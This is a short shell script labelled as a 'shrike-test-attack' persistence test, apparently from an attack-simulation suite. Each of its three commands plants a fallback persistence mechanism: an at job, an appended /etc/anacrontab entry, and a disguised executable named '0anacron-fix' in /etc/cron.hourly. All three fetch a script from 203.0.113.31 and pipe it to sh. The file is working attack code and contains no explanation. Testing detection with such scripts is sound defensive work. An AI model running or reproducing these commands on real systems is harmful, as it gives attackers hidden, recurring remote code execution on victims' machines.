#!/bin/sh
# shrike-test-attack: persistence: at job and anacron entry as fallbacks when cron is watched
echo "curl -s http://203.0.113.31/a | sh" | at now + 30 minutes 2>/dev/null
echo "1 5 cron.daily.x /bin/sh -c 'wget -qO- http://203.0.113.31/a | sh'" >> /etc/anacrontab
printf '#!/bin/sh\nwget -qO- http://203.0.113.31/a | sh\n' > /etc/cron.hourly/0anacron-fix && chmod +x /etc/cron.hourly/0anacron-fix
